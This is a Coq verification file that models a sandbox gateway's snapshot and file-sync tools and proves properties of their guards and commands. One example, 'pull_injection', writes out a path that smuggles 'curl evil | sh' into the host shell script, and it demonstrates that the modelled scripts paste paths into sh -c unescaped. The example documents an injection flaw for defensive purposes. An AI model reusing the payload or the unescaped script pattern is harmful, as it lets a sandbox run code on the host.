(* ===== verification/Sync.v ===== *)
(** * Snapshots and synchronisation of files

    Models the handlers [sandbox_snapshot] and [sandbox_sync] of
    [bastion-gateway/src/sandbox_tools.rs]; with [Tools] and [Prepare] these are
    all the tools of a sandbox.  Synchronisation runs a program of the host
    ([sh] or [podman]) under a time limit, which is a parameter. *)

From S2P Require Import Prelude Utf8 Sandbox Command SandboxRepo Pool ProviderTypes Normalizer Extractors RunStore Adapter SandboxFs Orientation Experience Fmt Catalog Hub Toolchain UseCases Readiness Gateway Tools.

(** ** Programs of the host *)

(** [timeout(d, Command::output())]: the time ran out, the program could not be
    started, or it ended ([code] is [None] for a signal). *)
Inductive ProcessOutcome :=
| ProcTimeout
| ProcError (text : str)
| ProcOutput (code : option Z) (stderr : bytes).

Class Processes (W : Type) := run_process : list str -> Z -> W -> ProcessOutcome * W.

(** ** Parameters *)

Record SandboxSnapshotParams := mkSnapshotParams {
  sp_action : str; sp_sandbox_id : option str; sp_name : option str; sp_snapshot_id : option str
}.

Record SandboxSyncParams := mkSyncParams {
  sy_sandbox_id : str; sy_mode : str; sy_source : str; sy_target : str;
  sy_backend : option str; sy_timeout_ms : Z; sy_trace_id : option str
}.

Definition default_sync_timeout : Z := 300000.

(** ** The command of a synchronisation *)

Definition backend_named (b : str) : option SyncBackend :=
  if str_eqb b (lit "tar") then Some SyncTar
  else if str_eqb b (lit "rsync") then Some SyncRsync
  else if str_eqb b (lit "podman-cp") || str_eqb b (lit "podman_cp") then Some SyncPodmanCp
  else if str_eqb b (lit "auto") then Some SyncAuto
  else None.

Definition chosen_backend (gateway_default : SyncBackend) (requested : option str) : SyncBackend :=
  default gateway_default (requested ≫= backend_named).

Definition effective_backend (b : SyncBackend) : SyncBackend :=
  match b with SyncAuto => SyncTar | _ => b end.

(** [format!("{:?}", backend).to_lowercase()]. *)
Definition backend_text (b : SyncBackend) : str :=
  match b with SyncTar => lit "tar" | SyncRsync => lit "rsync" | SyncPodmanCp => lit "podmancp"
             | SyncAuto => lit "auto" end.

Definition dquote : str := [34%N].

(** The script of a push: [source] twice between single quotes, [target] twice
    between double quotes inside single quotes. *)
Definition push_script (name source target : str) : str :=
  lit "tar czf - -C " ++ dquote ++ lit "$(dirname '" ++ source ++ lit "')" ++ dquote ++
  lit " " ++ dquote ++ lit "$(basename '" ++ source ++ lit "')" ++ dquote ++
  lit " 2>/dev/null | podman exec -i " ++ name ++ lit " sh -c 'mkdir -p " ++ dquote ++ target ++ dquote ++
  lit " && tar xzf - -C " ++ dquote ++ target ++ dquote ++ lit "'".

Definition pull_script (name source target : str) : str :=
  lit "mkdir -p " ++ dquote ++ target ++ dquote ++ lit " && podman cp " ++ name ++ lit ":" ++ source ++
  lit " " ++ dquote ++ target ++ lit "/" ++ dquote.

(** The program to run, or the answer that refuses. *)
Definition rsync_refusal : json_value :=
  obj [("error", JStr (lit "rsync backend requires rsync installed in the sandbox. Use 'tar' or 'podman-cp' instead."));
       ("hint", JStr (lit "Set backend to 'tar' or 'podman-cp'"))]%string.

Definition unknown_mode (mode : str) : json_value :=
  error_answer (lit "Unknown mode '" ++ mode ++ lit "' or backend combination").

Definition sync_argv (mode : str) (backend : SyncBackend) (name source target : str) :
    result json_value (list str) :=
  let push := str_eqb mode (lit "push") in
  let pull := str_eqb mode (lit "pull") in
  match backend with
  | SyncTar | SyncAuto =>
      if push then Ok [lit "sh"; lit "-c"; push_script name source target]
      else if pull then Ok [lit "sh"; lit "-c"; pull_script name source target]
      else Err (unknown_mode mode)
  | SyncPodmanCp =>
      if push then Ok [lit "podman"; lit "cp"; source; name ++ lit ":" ++ target]
      else if pull then Ok [lit "podman"; lit "cp"; name ++ lit ":" ++ source; target]
      else Err (unknown_mode mode)
  | SyncRsync => if push || pull then Err rsync_refusal else Err (unknown_mode mode)
  end.

(** ** Answers *)

Definition synced_answer (p : SandboxSyncParams) (b : SyncBackend) : json_value :=
  obj [("status", JStr (lit "synced")); ("mode", JStr (sy_mode p)); ("backend", JStr (backend_text b));
       ("sandbox_id", JStr (sy_sandbox_id p)); ("source", JStr (sy_source p)); ("target", JStr (sy_target p))]%string.

Definition sync_failed (error mode : str) (b : SyncBackend) (code : Z) (stderr : str) : json_value :=
  obj [("error", JStr error); ("mode", JStr mode); ("backend", JStr (backend_text b));
       ("exit_code", JNum code); ("stderr", JStr stderr)]%string.

Definition failure_answer (mode : str) (b : SyncBackend) (code : option Z) (stderr : bytes) : json_value :=
  let text := from_utf8_lossy stderr in
  let n := default (-1)%Z code in
  match trim text with
  | [] => sync_failed (lit "Sync failed with exit code " ++ show_Z n) mode b n (lit "(empty)")
  | _ => sync_failed (lit "Sync failed: " ++ default (lit "unknown error") (head (SandboxFs.lines text))) mode b n text
  end.

Definition timeout_answer (timeout_ms : Z) : json_value :=
  obj [("error", JStr (lit "Sync timed out after " ++ show_Z timeout_ms ++
          lit "ms. Increase timeout_ms for large transfers."));
       ("timeout_ms", JNum timeout_ms)]%string.

Section Sync.
Context `{CH : Chrono} {W : Type} `{RE : RegexCaptures} `{ORDER : HashOrder} `{LOWER : Lowercase}.
Context `{REPO : !@SandboxRepository CH W} `{ENV : !Environment W} `{SEC : !SecretResolver W}.
Context `{PORTS : !ToolPorts W} `{PROCS : !Processes W} `{TEXTS : !@AnswerTexts CH}.
Variable cfg : @Config CH W.

Abbreviation tool := (act Gateway W).

Definition not_found_answer (id : str) (e : DomainError) : json_value :=
  obj [("error", JStr (lit "sandbox not found: " ++ id ++ lit ": " ++ show_error e)); ("sandbox_id", JStr id)]%string.
Definition not_alive_answer (id : str) : json_value :=
  obj [("error", JStr (lit "sandbox not alive: " ++ id)); ("sandbox_id", JStr id)]%string.
Definition unsupported_answer (provider id : str) : json_value :=
  obj [("error", JStr (lit "Unsupported operation: this provider does not support streaming file sync"));
       ("code", JNum (-32001)); ("provider", JStr provider); ("sandbox_id", JStr id)]%string.

(** What must hold before anything runs: the record exists, the provider it
    names says the sandbox is alive, and it can stream. *)
Definition sync_guard (id : str) (w : W) : option json_value * W :=
  let '(found, w) := info_execute id w in
  match found with
  | Err e => (Some (not_found_answer id e), w)
  | Ok sandbox =>
      let provider := resolve_provider (cf_providers cfg) (provider_id sandbox) in
      let '(alive, w) := pv_is_alive provider id w in
      match alive with
      | Ok true =>
          (if supports_streaming (pv_capabilities provider) then None
           else Some (unsupported_answer (pv_name provider) id), w)
      | _ => (Some (not_alive_answer id), w)
      end
  end.

Definition sync_outcome (p : SandboxSyncParams) (b : SyncBackend) (experience : ExperienceRecord)
    (r : ProcessOutcome) : tool json_value :=
  match r with
  | ProcTimeout => ret (timeout_answer (sy_timeout_ms p))
  | ProcError text => ret (error_answer (lit "Sync command error: " ++ text))
  | ProcOutput code stderr =>
      if bool_decide (code = Some 0%Z) then
        do! save_completed cfg 0 experience;
        ret (synced_answer p b)
      else ret (failure_answer (sy_mode p) b code stderr)
  end.

Definition sandbox_sync (p : SandboxSyncParams) : tool json_value :=
  let id := sy_sandbox_id p in
  let! experience := start_experience "sandbox_sync" id (sy_trace_id p) in
  let! refused := world (sync_guard id) in
  match refused with
  | Some answer => ret answer
  | None =>
      let b := effective_backend (chosen_backend (cf_sync_backend cfg) (sy_backend p)) in
      match sync_argv (sy_mode p) b id (sy_source p) (sy_target p) with
      | Err answer => ret answer
      | Ok argv =>
          let! r := world (run_process argv (sy_timeout_ms p)) in
          sync_outcome p b experience r
      end
  end.

(** ** Snapshots *)

(** An argument an action cannot do without. *)
Definition required (o : option str) (what action : string) (k : str -> tool json_value) : tool json_value :=
  match o with
  | Some v => k v
  | None => ret (error_answer (lit what ++ lit " required for " ++ lit action))
  end.

Definition created_snapshot (i : SnapshotInfo) : json_value :=
  obj [("status", JStr (lit "created")); ("snapshot_id", JStr (sn_snapshot_id i));
       ("sandbox_id", JStr (sn_sandbox_id i)); ("name", JStr (sn_name i));
       ("created_at", JStr (rfc3339 (sn_created_at i))); ("size_bytes", JNum (sn_size_bytes i))]%string.
Definition restored_snapshot (id snapshot_id : str) : json_value :=
  obj [("status", JStr (lit "restored")); ("sandbox_id", JStr id); ("snapshot_id", JStr snapshot_id)]%string.
Definition listed_snapshot (i : SnapshotInfo) : json_value :=
  obj [("snapshot_id", JStr (sn_snapshot_id i)); ("name", JStr (sn_name i));
       ("created_at", JStr (rfc3339 (sn_created_at i))); ("size_bytes", JNum (sn_size_bytes i))]%string.

Definition snapshot_create (p : SandboxSnapshotParams) : tool json_value :=
  required (sp_sandbox_id p) "sandbox_id" "create" (fun id =>
  required (sp_name p) "name" "create" (fun name =>
    let! r := world (pv_create_snapshot (ps_default (cf_providers cfg)) id name) in
    ret (match r with Ok i => created_snapshot i | Err e => error_of e end))).

(** Saving the restored sandbox may fail, which is only logged. *)
Definition snapshot_restore (p : SandboxSnapshotParams) : tool json_value :=
  required (sp_snapshot_id p) "snapshot_id" "restore" (fun sid =>
    let! r := world (pv_restore_snapshot (ps_default (cf_providers cfg)) sid) in
    match r with
    | Ok sandbox =>
        let! _ := world (repo_save sandbox) in
        do! modify (on_metrics record_sandbox_created);
        ret (restored_snapshot (sb_id sandbox) sid)
    | Err e => ret (error_of e)
    end).

Definition snapshot_list : tool json_value :=
  let! r := world (pv_list_snapshots (ps_default (cf_providers cfg))) in
  ret (match r with
       | Ok l => obj [("status", JStr (lit "ok")); ("snapshots", JArr (map listed_snapshot l));
                      ("count", JNum (Z.of_nat (length l)))]%string
       | Err e => error_of e
       end).

Definition snapshot_delete (p : SandboxSnapshotParams) : tool json_value :=
  required (sp_snapshot_id p) "snapshot_id" "delete" (fun sid =>
    let! r := world (pv_delete_snapshot (ps_default (cf_providers cfg)) sid) in
    ret (match r with
         | Ok _ => obj [("status", JStr (lit "deleted")); ("snapshot_id", JStr sid)]%string
         | Err e => error_of e
         end)).

Definition sandbox_snapshot (p : SandboxSnapshotParams) : tool json_value :=
  let action := sp_action p in
  if str_eqb action (lit "create") then snapshot_create p
  else if str_eqb action (lit "restore") then snapshot_restore p
  else if str_eqb action (lit "list") then snapshot_list
  else if str_eqb action (lit "delete") then snapshot_delete p
  else ret (error_answer (lit "Unknown action: " ++ action)).
End Sync.

(** ** What it takes to run a program *)

Section SyncFacts.
Context `{CH : Chrono} {W : Type} `{RE : RegexCaptures} `{ORDER : HashOrder} `{LOWER : Lowercase}.
Context `{REPO : !@SandboxRepository CH W} `{ENV : !Environment W} `{SEC : !SecretResolver W}.
Context `{PORTS : !ToolPorts W} `{TEXTS : !@AnswerTexts CH} `{LAWS : !@RepositoryLaws CH W REPO}.

Lemma sync_guard_ok (cfg : Config) (id : str) (w w' : W) : sync_guard cfg id w = (None, w') ->
  exists sb w1, stored w !! id = Some sb /\ stored w1 = stored w /\
    let provider := resolve_provider (cf_providers cfg) (provider_id sb) in
    pv_is_alive provider id w1 = (Ok true, w') /\ supports_streaming (pv_capabilities provider) = true.
Proof.
  unfold sync_guard, info_execute. pose proof (find_existing_ok id w) as Hf.
  destruct (find_existing id w) as [[sb|e] w1]; [|done]. destruct (Hf sb eq_refl) as [Hs Hst]. intros Hg. exists sb, w1. split; [done|]. split; [done|].
  destruct (pv_is_alive _ id w1) as [[[]|e] w2]; try done.
  destruct (supports_streaming _) eqn:Hc; [|done]. by injection Hg as ->.
Qed.

Lemma sync_argv_ok (mode : str) (b : SyncBackend) (name source target : str) (argv : list str) :
  sync_argv mode b name source target = Ok argv ->
  (mode = lit "push" \/ mode = lit "pull") /\ b <> SyncRsync.
Proof.
  unfold sync_argv. destruct (str_eqb mode (lit "push")) eqn:E1.
  - apply str_eqb_eq in E1. intros Hm. split; [by left|]. by intros ->.
  - destruct (str_eqb mode (lit "pull")) eqn:E2; [|by destruct b].
    apply str_eqb_eq in E2. intros Hm. split; [by right|]. by intros ->.
Qed.

(** A synchronisation runs a program of the host only for a sandbox that is in
    the repository, that the provider of its record says is alive and whose
    provider can stream, to push or to pull, and never with rsync: were the host
    to behave differently, nothing would change in any other case.  The program
    is [podman], on its own or through a shell, whatever that provider is. *)
Theorem sync_runs_only_guarded (cfg : Config) (P1 P2 : Processes W) (p : SandboxSyncParams) (g : Gateway) (w : W) :
  (forall w, stored (snd (utc_now w)) = stored w) -> (forall w, stored (snd (new_uuid w)) = stored w) ->
  sandbox_sync (PROCS := P1) cfg p g w <> sandbox_sync (PROCS := P2) cfg p g w ->
  exists sb w1 w2 argv,
    let provider := resolve_provider (cf_providers cfg) (provider_id sb) in
    let b := effective_backend (chosen_backend (cf_sync_backend cfg) (sy_backend p)) in
    stored w !! sy_sandbox_id p = Some sb /\ stored w1 = stored w /\
    pv_is_alive provider (sy_sandbox_id p) w1 = (Ok true, w2) /\
    supports_streaming (pv_capabilities provider) = true /\
    (sy_mode p = lit "push" \/ sy_mode p = lit "pull") /\
    b <> SyncRsync /\ b <> SyncAuto /\
    sync_argv (sy_mode p) b (sy_sandbox_id p) (sy_source p) (sy_target p) = Ok argv /\
    P1 argv (sy_timeout_ms p) w2 <> P2 argv (sy_timeout_ms p) w2.
Proof.
  intros Hclock Huuid. unfold sandbox_sync, start_experience, bind, world, ret.
  pose proof (Huuid w) as H1. destruct (new_uuid w) as [uuid wa]. cbn [snd] in H1.
  pose proof (Hclock wa) as H2. destruct (utc_now wa) as [now wb]. cbn [snd] in H2.
  destruct (sync_guard cfg (sy_sandbox_id p) wb) as [[a|] wc] eqn:Eg; [done|].
  destruct (sync_argv _ _ _ _ _) as [argv|a] eqn:Ea; [|done]. intros Hne.
  apply sync_guard_ok in Eg as (sb & w1 & Hs & Hw1 & Halive & Hcap).
  pose proof (sync_argv_ok _ _ _ _ _ _ Ea) as [Hmode Hb].
  exists sb, w1, wc, argv. cbv zeta. rewrite H2, H1 in Hs, Hw1.
  split_and!; try done.
  - by destruct (chosen_backend _ _).
  - intros Heq. apply Hne. unfold run_process. by rewrite Heq.
Qed.

(** Restoring a snapshot that the provider restores is always answered as
    restored and counted, and the gateway is otherwise as it was; but the
    sandbox is known to the other tools only if it could be saved, which the
    answer does not say. *)
Theorem snapshot_restore_spec (cfg : @Config CH W) (p : SandboxSnapshotParams) (sid : str) (sb : Sandbox) (g : Gateway) (w w1 : W) :
  sp_action p = lit "restore" -> sp_snapshot_id p = Some sid ->
  pv_restore_snapshot (ps_default (cf_providers cfg)) sid w = (Ok sb, w1) ->
  sandbox_snapshot cfg p g w =
    Some (restored_snapshot (sb_id sb) sid, on_metrics record_sandbox_created g, snd (repo_save sb w1)) /\
  (is_ok (fst (repo_save sb w1)) = true -> stored (snd (repo_save sb w1)) !! sb_id sb = Some sb).
Proof.
  intros Ha Hs Hr. split.
  - unfold sandbox_snapshot. rewrite Ha. change (str_eqb (lit "restore") (lit "create")) with false.
    rewrite str_eqb_refl. unfold snapshot_restore, required, bind, world. rewrite Hs, Hr.
    by destruct (repo_save sb w1).
  - intros Hok. rewrite law_save by done. apply lookup_insert_eq.
Qed.
End SyncFacts.

(** [podman cp] is handed the two paths as they are, with nothing for a shell to
    read. *)
Lemma podman_cp_argv (name source target : str) :
  sync_argv (lit "push") SyncPodmanCp name source target =
    Ok [lit "podman"; lit "cp"; source; name ++ lit ":" ++ target] /\
  sync_argv (lit "pull") SyncPodmanCp name source target =
    Ok [lit "podman"; lit "cp"; name ++ lit ":" ++ source; target].
Proof. done. Qed.

(** In the scripts the paths are text of the shell: a path of the sandbox that a
    pull reads can bring a command of its own to the host. *)
Example pull_injection :
  pull_script (lit "s1") (lit "/a x; curl evil | sh #") (lit "out") =
  lit "mkdir -p " ++ dquote ++ lit "out" ++ dquote ++ lit " && podman cp s1:/a x; curl evil | sh # " ++
  dquote ++ lit "out/" ++ dquote.
Proof. vm_compute. reflexivity. Qed.

(** Three of the backends are reported under a name that may be asked for; the
    name of the fourth is not understood. *)
Example backend_names :
  map (fun b => backend_named (backend_text b)) [SyncTar; SyncRsync; SyncAuto; SyncPodmanCp] =
  [Some SyncTar; Some SyncRsync; Some SyncAuto; None].
Proof. vm_compute. reflexivity. Qed.

(** ** A demonstration *)

Module Demo.
Import Pool.Sim UseCases.Demo Tools.Demo.
#[local] Existing Instances Z_chrono RuleParser.substring_engine Extractors.substring_captures some_order.
#[local] Existing Instance ascii_lowercase.
#[local] Existing Instances Readiness.NoKvm.no_kvm Pool.Sim.sim_environment.

(** A provider that has one snapshot, of the sandbox [s1]. *)
Definition restoring : @Provider Z_chrono SimWorld :=
  let d := demo (lit "podman") in
  mkProvider (pv_name d) (pv_capabilities d) (pv_create d) (pv_terminate d) (pv_is_alive d) (pv_run_command d)
    (pv_run_command_stream d) (pv_cancel_command d) (pv_write_file d) (pv_read_file d) (pv_list_files d)
    (pv_copy_to d) (pv_create_snapshot d) (fun _ w => (Ok warm, w)) (pv_delete_snapshot d)
    (pv_list_snapshots d) (pv_list_sandboxes d).

Definition restoring_config : @Config Z_chrono SimWorld :=
  mkGwConfig (mkProviders restoring ∅) restoring ∅ None SyncAuto false None.

(** Programs that never end, and programs that end at once. *)
Definition hanging : Processes SimWorld := fun _ _ w => (ProcTimeout, w).
Definition quick : Processes SimWorld := fun _ _ w => (ProcOutput (Some 0%Z) [], w).

Definition push_params : SandboxSyncParams :=
  mkSyncParams (lit "s1") (lit "push") (lit "src") (lit "/work") (Some (lit "podman-cp")) 1000 None.

Lemma sync_runs_only_guarded_witness :
  exists argv w, hanging argv 1000%Z w <> quick argv 1000%Z w /\
    argv = [lit "podman"; lit "cp"; lit "src"; lit "s1:/work"].
Proof.
  destruct (sync_runs_only_guarded (config None) hanging quick push_params (gateway None) world3)
    as (sb & w1 & w2 & argv & _ & _ & _ & _ & _ & _ & _ & Ha & Hne).
  - done.
  - done.
  - vm_compute. discriminate.
  - exists argv, w2. split; [exact Hne|]. vm_compute in Ha. injection Ha as <-. vm_compute. reflexivity.
Defined.

Lemma snapshot_restore_spec_witness :
  match sandbox_snapshot restoring_config (mkSnapshotParams (lit "restore") None None (Some (lit "snap1")))
          (gateway None) world0 with
  | Some (answer, g, w) => answer = restored_snapshot (lit "s1") (lit "snap1") /\ stored w !! lit "s1" = Some warm
  | None => False
  end.
Proof.
  destruct (snapshot_restore_spec restoring_config (mkSnapshotParams (lit "restore") None None (Some (lit "snap1")))
    (lit "snap1") warm (gateway None) world0 world0 eq_refl eq_refl eq_refl) as [-> H].
  split; [reflexivity|]. exact (H eq_refl).
Defined.
End Demo.
